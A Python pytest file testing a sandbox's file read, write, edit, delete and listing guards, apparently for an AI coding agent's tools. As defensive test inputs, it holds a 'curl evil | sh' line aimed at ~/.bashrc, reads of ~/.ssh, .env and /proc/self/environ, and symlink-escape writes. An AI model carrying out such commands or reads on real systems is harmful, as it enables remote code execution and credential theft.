"""ops.files on real files: the policy and the permission globs, atomic writes, symlinks."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from corral import config
from corral.sandbox import policy
from corral.toolguard.ops import files
from corral.toolguard.ops.globs import Permissions
from corral.toolguard.ops.refusal import OpError

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path
    from typing import Any

Guard = tuple[policy.Policy, Permissions]


@pytest.fixture
def guard(
    make_config: Callable[..., config.Config], host_env: dict[str, str]
) -> Callable[..., Guard]:
    """`guard(ws, {...layer...})`: the policy and permissions the real engine resolves."""

    def make(ws: Path, *layers: dict[str, Any]) -> Guard:
        cfg = make_config(*layers)
        return policy.resolve(cfg, str(ws), host_env), Permissions.from_config(cfg)

    return make


def refused(call: Callable[..., object], *args: Any, **kwargs: Any) -> dict[str, str]:
    with pytest.raises(OpError) as e:
        call(*args, **kwargs)
    return e.value.refusal.as_dict()


def leftovers(directory: Path) -> list[str]:
    return [p.name for p in directory.iterdir() if ".corral-" in p.name]


# --- read ------------------------------------------------------------------------------------


def test_read_relative_to_the_workspace(guard: Callable[..., Guard], ws: Path) -> None:
    (ws / "a.txt").write_text("hello\n")
    done = files.read(*guard(ws), "a.txt")
    assert done == {
        "ok": True,
        "path": str(ws / "a.txt"),
        "content": "hello\n",
        "truncated": False,
        "notice": "",
    }


def test_read_is_cut_at_the_limit_with_a_notice(guard: Callable[..., Guard], ws: Path) -> None:
    (ws / "big.txt").write_text("x" * 100)
    done = files.read(*guard(ws), "big.txt", max_bytes=40)
    assert done["content"] == "x" * 40 and done["truncated"] is True
    assert "truncated at 40 bytes of 100" in str(done["notice"])
    assert "offset=40" in str(done["notice"])
    rest = files.read(*guard(ws), "big.txt", max_bytes=100, offset=40)
    assert rest["content"] == "x" * 60 and rest["truncated"] is False
    assert rest["notice"] == ""
    # r51c CONTRACT: past the end, an empty answer said nothing (read as an empty file)
    past = files.read(*guard(ws), "big.txt", offset=150)
    assert past["content"] == "" and "past the end of the file (100 bytes)" in past["notice"]


def test_a_cut_never_splits_a_character(guard: Callable[..., Guard], ws: Path) -> None:
    (ws / "u.txt").write_text("ab\u00e9cd")  # é is two bytes: 2 and 3
    done = files.read(*guard(ws), "u.txt", max_bytes=3)
    assert done["content"] == "ab" and "offset=2" in str(done["notice"])
    assert files.read(*guard(ws), "u.txt", offset=2)["content"] == "\u00e9cd"


def test_read_missing_directory_and_fifo(guard: Callable[..., Guard], ws: Path) -> None:
    g = guard(ws)
    assert refused(files.read, *g, "missing.txt")["code"] == "not-found"
    # (r61c EDITNOPATH: an edit's "No such file or directory" named no path)
    gone = refused(files.edit, *g, "gone.py", "a", "b")
    assert gone["code"] == "not-found" and str(ws / "gone.py") in gone["message"], gone
    (ws / "d").mkdir()
    assert refused(files.read, *g, "d")["code"] == "is-directory"
    os.mkfifo(ws / "pipe")  # opening it must not hang the editor
    assert refused(files.read, *g, "pipe")["code"] == "not-a-file"


def test_read_of_deny_read_paths_is_refused_also_through_a_symlink(
    guard: Callable[..., Guard], ws: Path, home: Path
) -> None:
    (home / ".ssh").mkdir()
    (home / ".ssh" / "config").write_text("Host *\n")
    (ws / "innocent").symlink_to(home / ".ssh" / "config")
    g = guard(ws)
    for path in ("~/.ssh/config", str(home / ".ssh/config"), "innocent", "sub/../innocent"):
        found = refused(files.read, *g, path)
        assert found["code"] == "denied-read", path
        assert found["rule"] == "sandbox.policy.deny_read"
        assert found["layer"] == "default"
        assert (
            found["hint"] == 'remove "~/.ssh" from sandbox.policy.deny_read (it holds credentials)'
        )
    assert "through a symlink" in refused(files.read, *g, "innocent")["message"]


def test_read_deny_globs_and_read_globs(guard: Callable[..., Guard], ws: Path) -> None:
    (ws / ".env").write_text("TOKEN=1")
    (ws / "link").symlink_to(ws / ".env")
    (ws / "src").mkdir()
    (ws / "src" / "a.py").write_text("pass\n")
    (ws / "notes.txt").write_text("n")
    g = guard(ws, {"tools": {"permissions": {"read": ["src/**", "*.txt", "link", ".env"]}}})
    found = refused(files.read, *g, ".env")
    assert found == {
        "code": "denied-by-glob",
        "path": str(ws / ".env"),
        "rule": "tools.permissions.deny: '.env'",
        "layer": "default",
        "hint": "remove '.env' from tools.permissions.deny",
        "message": ".env matches the deny pattern '.env'",
    }
    # the name given is allowed, the file it resolves to is not
    assert refused(files.read, *g, "link")["code"] == "denied-by-glob"
    assert files.read(*g, "src/a.py")["content"] == "pass\n"
    assert files.read(*g, "notes.txt")["content"] == "n"
    (ws / "other.md").write_text("m")
    found = refused(files.read, *g, "other.md")
    assert found["code"] == "not-in-read-globs" and found["layer"] == "global"


def test_reads_of_the_hosts_tmp_and_proc_are_refused_while_sandboxed(
    guard: Callable[..., Guard], ws: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "host-tmp.txt"
    outside.write_text("x")
    g = guard(ws)
    found = refused(files.read, *g, str(outside))
    assert found["code"] == "hidden" and "private /tmp" in found["message"]
    found = refused(files.read, *g, "/proc/self/environ")
    assert found["code"] == "hidden" and found["layer"] == "builtin"


def test_sandbox_disabled_lifts_confinement_but_not_deny_read_or_globs(
    guard: Callable[..., Guard], ws: Path, base: Path, home: Path
) -> None:
    (home / ".ssh").mkdir()  # deny_read holds the paths that exist when the policy is made
    (home / ".ssh" / "id").write_text("k")
    g = guard(ws, {"sandbox": {"enabled": False}})
    outside = base / "outside.txt"
    files.write(*g, str(outside), "free")
    assert outside.read_text() == "free"
    # seventh review r7b F8: never the host's /proc (every process's environment, API keys)
    assert refused(files.read, *g, "/proc/self/environ")["code"] == "hidden"
    assert refused(files.read, *g, "~/.ssh/id")["code"] == "denied-read"
    assert refused(files.write, *g, "~/.ssh/authorized_keys", "k")["code"] == "denied-read"
    assert refused(files.write, *g, str(base / "x.pem"), "k")["code"] == "denied-by-glob"


def test_a_private_home_is_hidden_except_home_allow(
    guard: Callable[..., Guard], ws: Path, home: Path
) -> None:
    (home / "Documents").mkdir()
    (home / "Documents" / "tax.txt").write_text("t")
    (home / ".gitconfig").write_text("[user]\n")
    g = guard(ws, {"sandbox": {"policy": {"home": "private"}}})
    found = refused(files.read, *g, "~/Documents/tax.txt")
    assert found["code"] == "hidden" and found["rule"] == "sandbox.policy.home"
    assert found["hint"].startswith('add "~/Documents/tax.txt" to sandbox.policy.home_allow')
    assert found["layer"] == "global"
    assert files.read(*g, "~/.gitconfig")["content"] == "[user]\n"


# --- write -----------------------------------------------------------------------------------


def test_write_creates_a_file(guard: Callable[..., Guard], ws: Path) -> None:
    done = files.write(*guard(ws), "new.txt", "caf\u00e9\n")
    assert done == {"ok": True, "path": str(ws / "new.txt"), "bytes": 6, "created": True}
    assert (ws / "new.txt").read_text() == "caf\u00e9\n"
    assert leftovers(ws) == []


def test_write_replaces_in_one_rename_keeping_the_mode(
    guard: Callable[..., Guard], ws: Path
) -> None:
    target = ws / "script.sh"
    target.write_text("old " * 1000)
    target.chmod(0o751)
    before = target.stat().st_ino
    done = files.write(*guard(ws), "script.sh", "new content")
    assert done["created"] is False
    assert target.stat().st_ino != before  # a new inode: renamed over, not rewritten in place
    assert target.read_text() == "new content"
    assert stat.S_IMODE(target.stat().st_mode) == 0o751
    assert leftovers(ws) == []


def test_write_drops_setuid_bits(guard: Callable[..., Guard], ws: Path) -> None:
    target = ws / "tool"
    target.write_text("a")
    target.chmod(0o4755)
    files.write(*guard(ws), "tool", "b")
    assert stat.S_IMODE(target.stat().st_mode) == 0o755


def test_a_failure_mid_write_leaves_the_file_and_no_temporary(ws: Path, home: Path) -> None:
    """A real failure half-way through writing: the file size limit (RLIMIT_FSIZE) is hit
    after the temporary file was made, in a child process so the limit stays there."""
    target = ws / "keep.txt"
    target.write_text("original")
    code = f"""
import resource, signal, sys
sys.path.insert(0, {os.path.join(os.path.dirname(__file__), "..", "..", "python")!r})
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
from corral import config
from corral.sandbox import policy
from corral.toolguard.ops import files
from corral.toolguard.ops.globs import Permissions
cfg = config.resolve([])
p = policy.resolve(cfg, {str(ws)!r}, {{"HOME": {str(home)!r}, "PATH": "/usr/bin:/bin"}})
resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))
try:
    files.write(p, Permissions.from_config(cfg), "keep.txt", "y" * 5000)
except files.OpError as e:
    print(e.refusal.code, e.refusal.message)
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.startswith("io-error"), done.stdout + done.stderr
    assert target.read_text() == "original"
    assert leftovers(ws) == []


def test_write_to_a_directory_is_refused_without_leftovers(
    guard: Callable[..., Guard], ws: Path
) -> None:
    (ws / "d").mkdir()
    assert refused(files.write, *guard(ws), "d", "x")["code"] == "is-directory"
    assert leftovers(ws) == []


def test_write_needs_create_dirs_for_missing_directories(
    guard: Callable[..., Guard], ws: Path
) -> None:
    g = guard(ws)
    found = refused(files.write, *g, "a/b/c.txt", "x")
    assert found["code"] == "not-found" and "create_dirs" in found["hint"]
    assert not (ws / "a").exists()
    files.write(*g, "a/b/c.txt", "x", create_dirs=True)
    assert (ws / "a" / "b" / "c.txt").read_text() == "x"


def test_write_through_a_symlink_leaving_the_roots_is_refused(
    guard: Callable[..., Guard], ws: Path, base: Path
) -> None:
    outside = base / "outside"
    outside.mkdir()
    (outside / "f").write_text("untouched")
    (ws / "file-link").symlink_to(outside / "f")
    (ws / "dir-link").symlink_to(outside)
    (ws / "dangling").symlink_to(outside / "new")
    g = guard(ws)
    for path in ("file-link", "dir-link/f", "dir-link/g", "dangling"):
        found = refused(files.write, *g, path, "pwned")
        assert found["code"] == "symlink-escape", path
        assert found["rule"] == "sandbox.policy.rw_paths"
        assert "sandbox.policy.rw_paths" in found["hint"]
    assert (outside / "f").read_text() == "untouched"
    assert sorted(p.name for p in outside.iterdir()) == ["f"]


def test_write_through_a_symlink_inside_the_root_writes_its_target(
    guard: Callable[..., Guard], ws: Path
) -> None:
    (ws / "real.txt").write_text("a")
    (ws / "alias").symlink_to("real.txt")
    done = files.write(*guard(ws), "alias", "b")
    assert done["path"] == str(ws / "real.txt")
    assert (ws / "alias").is_symlink() and (ws / "real.txt").read_text() == "b"


def test_dot_dot_cannot_leave_the_workspace(
    guard: Callable[..., Guard], ws: Path, base: Path
) -> None:
    found = refused(files.write, *guard(ws), "../escaped.txt", "x")
    assert found["code"] == "outside-writable-roots"
    assert found["path"] == str(base / "escaped.txt")
    assert found["hint"] == f'add "{base}" to sandbox.policy.rw_paths'
    assert not (base / "escaped.txt").exists()


def test_the_hosts_tmp_is_not_writable_outside_a_root(
    guard: Callable[..., Guard], ws: Path, tmp_path: Path
) -> None:
    g = guard(ws)
    assert g[0].is_writable(str(tmp_path / "x"))  # the sandbox's private /tmp...
    found = refused(files.write, *g, str(tmp_path / "x"), "data")
    assert found["code"] == "outside-writable-roots"  # ...is not the host's
    assert "host's /tmp" in found["message"]
    assert not (tmp_path / "x").exists()


def test_a_workspace_under_tmp_is_writable(guard: Callable[..., Guard], tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    g = guard(ws)
    files.write(*g, "a.txt", "x")
    assert files.read(*g, "a.txt")["content"] == "x"


def test_read_only_mode_refuses_every_write(guard: Callable[..., Guard], ws: Path) -> None:
    found = refused(files.write, *guard(ws, {"sandbox": {"mode": "read-only"}}), "a.txt", "x")
    assert found["code"] == "outside-writable-roots"
    assert found["layer"] == "mode read-only"
    assert "there are none" in found["message"]


def test_protected_git_files_are_refused(
    guard: Callable[..., Guard], ws: Path, home: Path, git: Callable[..., str]
) -> None:
    git("init", "-q", cwd=ws, home=home)
    g = guard(ws)
    for path, text in ((".git/hooks/pre-commit", "#!/bin/sh\n"), (".git/config", "")):
        found = refused(files.write, *g, path, text)
        assert found["code"] == "protected", path
        assert found["rule"] == "sandbox.policy.protected" and found["layer"] == "default"
    # r72d WORDY: the name said once, no brackets nested before the hint's
    assert (
        found["message"] == f"{ws / '.git' / 'config'} is protected: it must not be changed "
        "from the sandbox"
    ), found
    found = refused(files.edit, *g, ".git/config", "[core]", "[core]\n\thooksPath = x\n")
    assert found["code"] == "protected"
    # not yet there, and must not appear: watched
    assert refused(files.write, *g, ".git/commondir", "..")["code"] == "protected"
    assert not (ws / ".git" / "commondir").exists()
    # the rest of .git stays writable, as in the sandbox
    files.write(*g, ".git/description", "mine\n")


def test_deny_write_paths_are_refused(guard: Callable[..., Guard], ws: Path, home: Path) -> None:
    (home / ".bashrc").write_text("# rc\n")
    g = guard(ws, {"sandbox": {"policy": {"rw_paths": {"append": ["~"]}}}})
    found = refused(files.write, *g, "~/.bashrc", "curl evil | sh\n")
    assert found["code"] == "protected" and found["rule"] == "sandbox.policy.deny_write"
    assert (home / ".bashrc").read_text() == "# rc\n"
    files.write(*g, "~/notes.txt", "fine")


# --- edit ------------------------------------------------------------------------------------


def test_edit_replaces_exactly_the_expected_count(guard: Callable[..., Guard], ws: Path) -> None:
    g = guard(ws)
    (ws / "m.py").write_text("a = 1\nb = 1\n")
    found = refused(files.edit, *g, "m.py", "c = 1", "c = 2")
    assert found["code"] == "match-count" and "found 0 occurrences" in found["message"]
    found = refused(files.edit, *g, "m.py", "= 1", "= 2")
    assert found["code"] == "match-count"
    assert found["message"] == "found 2 occurrences of the old text, expected 1"
    assert "expected=2" in found["hint"]
    assert (ws / "m.py").read_text() == "a = 1\nb = 1\n"
    done = files.edit(*g, "m.py", "a = 1", "a = 3")
    assert done["count"] == 1 and (ws / "m.py").read_text() == "a = 3\nb = 1\n"
    assert "-a = 1\n+a = 3\n" in str(done["diff"]) and "--- a/m.py" in str(done["diff"])
    done = files.edit(*g, "m.py", "= ", "== ", expected=2)
    assert (ws / "m.py").read_text() == "a == 3\nb == 1\n"


def test_edit_preview_writes_nothing(guard: Callable[..., Guard], ws: Path) -> None:
    (ws / "p.txt").write_text("one\r\ntwo\r\n")
    before = (ws / "p.txt").stat()
    done = files.edit(*guard(ws), "p.txt", "two", "2", preview=True)
    assert done["written"] is False and "+2\r\n" in str(done["diff"])
    after = (ws / "p.txt").stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
    files.edit(*guard(ws), "p.txt", "two", "2")
    assert (ws / "p.txt").read_bytes() == b"one\r\n2\r\n"  # line endings kept


def test_edit_refuses_binary_and_empty_old(guard: Callable[..., Guard], ws: Path) -> None:
    (ws / "b.bin").write_bytes(b"\xff\xfe\x00")
    assert refused(files.edit, *guard(ws), "b.bin", "x", "y")["code"] == "not-text"
    assert refused(files.edit, *guard(ws), "b.bin", "", "y")["code"] == "invalid-argument"


# --- envelope --------------------------------------------------------------------------------


def test_every_change_must_fall_inside_the_envelope(guard: Callable[..., Guard], ws: Path) -> None:
    (ws / "src").mkdir()
    (ws / "src" / "a.py").write_text("x = 1\n")
    (ws / "README").write_text("r\n")
    g = guard(
        ws,
        {"sandbox": {"enabled": False}, "tools": {"permissions": {"envelope": ["src/**"]}}},
    )
    files.write(*g, "src/b.py", "")
    files.edit(*g, "src/a.py", "1", "2")
    for call, args in (
        (files.write, ("README", "x")),
        (files.edit, ("README", "r", "s")),
        (files.delete, ("README",)),
    ):
        found = refused(call, *g, *args)
        assert found["code"] == "outside-envelope", (call, args)
        assert found["rule"] == "tools.permissions.envelope" and found["layer"] == "global"
    assert (ws / "README").read_text() == "r\n"


# --- delete ----------------------------------------------------------------------------------


def test_delete_is_disabled_while_sandboxed(guard: Callable[..., Guard], ws: Path) -> None:
    (ws / "f").write_text("x")
    g = guard(ws)
    found = refused(files.delete, *g, "f")
    assert found["code"] == "delete-disabled" and "allow_sandboxed" in found["hint"]
    assert (ws / "f").exists()
    assert files.delete(*g, "f", allow_sandboxed=True)["type"] == "file"
    assert not (ws / "f").exists()


def test_delete_removes_a_symlink_not_its_target(
    guard: Callable[..., Guard], ws: Path, base: Path
) -> None:
    (base / "target").write_text("keep")
    (ws / "link").symlink_to(base / "target")
    done = files.delete(*guard(ws), "link", allow_sandboxed=True)
    assert done["type"] == "symlink"
    assert not (ws / "link").is_symlink() and (base / "target").read_text() == "keep"


def test_delete_directories_only_when_empty(guard: Callable[..., Guard], ws: Path) -> None:
    g = guard(ws)
    (ws / "d").mkdir()
    (ws / "d" / "f").write_text("x")
    assert refused(files.delete, *g, "d", allow_sandboxed=True)["code"] == "not-empty"
    files.delete(*g, "d/f", allow_sandboxed=True)
    assert files.delete(*g, "d", allow_sandboxed=True)["type"] == "dir"
    assert refused(files.delete, *g, "d", allow_sandboxed=True)["code"] == "not-found"


def test_delete_keeps_what_the_sandbox_keeps_in_place(
    guard: Callable[..., Guard], ws: Path, home: Path, git: Callable[..., str]
) -> None:
    git("init", "-q", cwd=ws, home=home)
    g = guard(ws)
    for path in (".git", ".git/hooks", ".git/config", "."):
        assert refused(files.delete, *g, path, allow_sandboxed=True)["code"] == "protected", path
    assert (ws / ".git" / "config").exists()


# --- ls --------------------------------------------------------------------------------------


def test_ls_honours_deny_only(guard: Callable[..., Guard], ws: Path) -> None:
    (ws / "src").mkdir()
    (ws / "a.txt").write_text("abc")
    (ws / ".env").write_text("T=1")
    (ws / "server.pem").write_text("k")
    (ws / "link").symlink_to("a.txt")
    g = guard(ws, {"tools": {"permissions": {"read": ["src/**"], "write": ["src/**"]}}})
    done = files.ls(*g, ".")
    assert done["entries"] == [
        {"name": "a.txt", "type": "file", "size": 3},
        {"name": "link", "type": "symlink"},  # (no size: vim.NIL in Lua is true, r52c)
        {"name": "src", "type": "dir"},
    ]
    assert done["hidden"] == 2 and done["truncated"] is False
    assert refused(files.read, *g, "a.txt")["code"] == "not-in-read-globs"
    assert files.ls(*g, "a.txt")["entries"] == [{"name": "a.txt", "type": "file", "size": 3}]


def test_ls_hides_deny_read_entries_and_refuses_denied_directories(
    guard: Callable[..., Guard], ws: Path, home: Path
) -> None:
    (home / ".ssh").mkdir()
    (home / "notes").mkdir()
    g = guard(ws, {"sandbox.policy.home": "visible"})
    done = files.ls(*g, "~")
    assert done["entries"] == [{"name": "notes", "type": "dir"}]
    assert done["hidden"] == 1
    assert refused(files.ls, *g, "~/.ssh")["code"] == "denied-read"


def test_ls_caps_the_entries(guard: Callable[..., Guard], ws: Path) -> None:
    for i in range(5):
        (ws / f"f{i}").write_text("")
    done = files.ls(*guard(ws), ".", max_entries=3)
    entries = done["entries"]
    assert isinstance(entries, list) and len(entries) == 3 and done["truncated"] is True


def test_every_refusal_names_code_path_rule_layer_and_hint(
    guard: Callable[..., Guard], ws: Path, tmp_path: Path, home: Path
) -> None:
    (home / ".ssh").mkdir()
    (ws / ".env").write_text("x")
    g = guard(ws)
    cases = [
        refused(files.read, *g, "~/.ssh/x"),
        refused(files.read, *g, ".env"),
        refused(files.write, *g, "../x", "x"),
        refused(files.write, *g, str(tmp_path / "x"), "x"),
        refused(files.read, *g, "/proc/self/status"),
        refused(files.delete, *g, ".env"),
    ]
    for found in cases:
        assert set(found) == {"code", "path", "rule", "layer", "hint", "message"}
        assert all(found[k] for k in found), found
        assert os.path.isabs(found["path"])
    with pytest.raises(OpError) as e:
        files.read(*g, ".env")
    assert str(e.value).startswith(f"{ws}/.env: .env matches the deny pattern '.env'")
    assert "[tools.permissions.deny: '.env', from default]" in str(e.value)


@pytest.mark.parametrize("name", ["é" * 127, "😀" * 63])
def test_write_a_long_multibyte_name(tmp_path: Path, name: str) -> None:
    """254 and 252 bytes: valid names, and the temporary file beside them must be too."""
    ws = tmp_path / "ws"
    ws.mkdir()
    pol = policy.resolve(config.resolve([]), str(ws), {"HOME": str(tmp_path / "home")})
    result = files.write(pol, Permissions(), name, "hi\n")
    assert result["ok"] is True
    assert (ws / name).read_text() == "hi\n"
    assert sorted(p.name for p in ws.iterdir()) == [name]  # no temp file left


def test_read_refuses_a_binary_file(guard: Callable[..., Guard], ws: Path) -> None:
    """r72d READBINARY: NUL bytes went into the model's context as text; edit refused the
    same file as not text."""
    (ws / "bin.dat").write_bytes(b"\x00\x01\x02binary")
    found = refused(files.read, *guard(ws), "bin.dat")
    assert found["code"] == "not-text" and "xxd" in found["hint"], found
    (ws / "text.txt").write_bytes(b"caf\xc3\xa9\n")
    assert files.read(*guard(ws), "text.txt")["content"] == "café\n"
